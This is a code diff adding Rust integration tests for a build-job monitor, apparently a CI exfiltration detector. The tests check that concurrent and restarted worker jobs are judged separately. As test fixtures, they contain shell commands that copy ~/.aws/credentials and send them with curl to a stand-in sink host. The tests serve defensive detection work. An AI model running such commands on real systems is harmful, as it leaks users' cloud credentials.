@@ -2,7 +2,7 @@
 
 use detector::{engine::Verdict, event::Body};
 use detector_tests::{
-    daemon::{Alone, Daemon, Judged, Runner, Service},
+    daemon::{Alone, Builds, Daemon, Judged, Runner, Service, Started},
     run::detector,
     scene::Scene,
 };
@@ -299,6 +299,123 @@ fn a_service_has_a_job_each_time_it_is_busy() -> Result {
     let (status, said) = daemon.end()?;
     assert_eq!(status, Some(0));
     assert_eq!(said.iter().filter(|line| line.contains(" ended: ")).count(), 2, "{said:#?}");
+    Ok(())
+}
+
+/// The processes of a recording, and what its job is called.
+fn of(job: &Judged) -> (BTreeSet<(u32, u64)>, String) {
+    let actors = job.recording.events.iter().filter_map(|event| event.actor.filter(|actor| actor.step != 0));
+    let called = job.conclusion.called.clone().unwrap_or_default();
+    (actors.map(|actor| (actor.process.pid, actor.process.start)).collect(), called)
+}
+
+/// A worker that has several jobs at once, each with a directory of its own.
+#[test]
+fn jobs_that_a_worker_has_at_once_are_judged_each_alone() -> Result {
+    let (alone, scene) = (Alone::wait()?, Scene::new()?);
+    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
+    let mut builds = Builds::start(&scene)?;
+    daemon.wait_for("began: Drone worker")?;
+    // The theft in two steps, and around each of them an honest job's.
+    let noise = "i=0; while [ $i -lt 100 ]; do /bin/true; i=$((i + 1)); done";
+    for (n, started) in [Started::Itself, Started::Helper].into_iter().enumerate() {
+        let gate = tempfile::tempdir()?;
+        let gate = gate.path().join("gate");
+        assert!(Command::new("mkfifo").arg(&gate).status()?.success());
+        let [theft, honest] = ["theft", "honest"].map(|name| format!("{name}-{n}"));
+        let first =
+            builds.step(started, &honest, "build", &format!("{noise}; : > {}; {noise}; {HONEST}", gate.display()))?;
+        std::fs::read(builds.step(started, &theft, "copy", &format!("{noise}; cp ~/.aws/credentials kept"))?)?;
+        let send = format!("{noise}; cat kept | curl -s --max-time 5 --data-binary @- http://$SINK/x; true");
+        let second = builds.step(started, &theft, "send", &send)?;
+        std::fs::read(&gate)?;
+        std::fs::read(&first)?;
+        std::fs::read(&second)?;
+        let mut jobs = [daemon.next_job()?, daemon.next_job()?].map(|job| (of(&job), job));
+        jobs.sort_by_key(|((_, called), _)| called.clone());
+        let [((honest_ones, is_honest), honest_job), ((theft_ones, is_theft), theft_job)] = &jobs;
+        assert_eq!((is_honest, is_theft), (&format!("drone-{honest}"), &format!("drone-{theft}")));
+        assert_eq!(honest_job.conclusion.verdict, Verdict::Pass, "{:#?}", honest_job.conclusion);
+        assert_eq!(theft_job.conclusion.verdict, Verdict::Fail, "{:#?}", theft_job.conclusion);
+        assert_eq!(leaks(theft_job).len(), 1, "{:#?}", theft_job.conclusion.findings);
+        let step = theft_job.conclusion.steps.get(&leaks(theft_job)[0]);
+        assert_eq!(step.map(String::as_str), Some("send"), "{:?}", theft_job.conclusion.steps);
+        assert!(honest_ones.is_disjoint(theft_ones) && honest_ones.len() > 200 && theft_ones.len() > 200);
+        assert!(honest_job.conclusion.coverage.lost.is_empty(), "{:?}", honest_job.conclusion.coverage.lost);
+        for job in [honest_job, theft_job] {
+            job.assert_replays()?;
+        }
+    }
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    // What is of no job in particular was nothing.
+    builds.end()?;
+    let (_, said) = daemon.end()?;
+    assert_eq!(said.iter().filter(|line| line.contains(" ended: ")).count(), 4, "{said:#?}");
+    Ok(())
+}
+
+/// They are one to the kernel side: what one of them left, another sends no more than that one itself.
+#[test]
+fn what_one_of_a_workers_jobs_left_no_other_sends() -> Result {
+    let (alone, scene) = (Alone::wait()?, Scene::new()?);
+    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
+    let mut builds = Builds::start(&scene)?;
+    daemon.wait_for("began: Drone worker")?;
+    std::fs::read(builds.step(Started::Itself, "one", "copy", "cp ~/.aws/credentials ../../../shared")?)?;
+    let send = "cat ../../../shared | curl -s --max-time 5 --data-binary @- http://$SINK/x; true";
+    std::fs::read(builds.step(Started::Itself, "other", "send", send)?)?;
+    let jobs = [daemon.next_job()?, daemon.next_job()?];
+    let sender = jobs.iter().find(|job| of(job).1 == "drone-other");
+    let sender = sender.expect("both were recorded");
+    assert_eq!(sender.conclusion.verdict, Verdict::Fail, "{:#?}", sender.conclusion);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    sender.assert_replays()?;
+    Ok(())
+}
+
+/// A daemon that is killed while a worker has two jobs: the next one goes on with both.
+#[test]
+fn the_next_daemon_goes_on_with_each_of_a_workers_jobs() -> Result {
+    let (alone, scene) = (Alone::wait()?, Scene::new()?);
+    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
+    let mut builds = Builds::start(&scene)?;
+    daemon.wait_for("began: Drone worker")?;
+    let directory = tempfile::tempdir()?;
+    let gates = ["held", "first", "second"].map(|name| directory.path().join(name));
+    for gate in &gates {
+        assert!(Command::new("mkfifo").arg(gate).status()?.success());
+    }
+    let [held, first, second] = gates.each_ref().map(|gate| gate.display());
+    let theft = format!(
+        "key=$(cat ~/.aws/credentials); : > {held}; : > {first}; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; true"
+    );
+    let theft = builds.step(Started::Itself, "theft", "all", &theft)?;
+    let honest = builds.step(Started::Itself, "honest", "all", &format!(": > {second}; {HONEST}"))?;
+    std::fs::read(&gates[0])?;
+    daemon.wait_for(" began: Drone in ")?;
+    daemon.wait_for(" began: Drone in ")?;
+    daemon.ask("flush")?;
+    daemon.signal(rustix::process::Signal::KILL)?;
+    let mut daemon = daemon.killed()?.1.start_again(&scene.network.job)?;
+    for gate in [&gates[1], &gates[2], &theft, &honest] {
+        std::fs::read(gate)?;
+    }
+    let mut jobs = [daemon.next_job()?, daemon.next_job()?].map(|job| (of(&job).1, job));
+    jobs.sort_by_key(|(called, _)| called.clone());
+    let [(is_honest, honest), (is_theft, theft)] = &jobs;
+    assert_eq!((is_honest.as_str(), is_theft.as_str()), ("drone-honest", "drone-theft"));
+    assert_eq!((leaks(honest).len(), leaks(theft).len()), (0, 1), "{:#?}", theft.conclusion.findings);
+    assert_eq!(theft.conclusion.verdict, Verdict::Fail);
+    assert_eq!(honest.conclusion.verdict, Verdict::Inconclusive, "nobody saw all of it");
+    for job in [honest, theft] {
+        assert!(job.conclusion.coverage.lost.contains_key("daemon-away"), "{:?}", job.conclusion.coverage.lost);
+        job.assert_replays()?;
+    }
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    // The next one of the worker is a whole one.
+    std::fs::read(builds.step(Started::Itself, "honest", "again", HONEST)?)?;
+    let again = daemon.next_job()?;
+    assert_eq!(again.conclusion.verdict, Verdict::Pass, "{:#?}", again.conclusion);
     Ok(())
 }
 
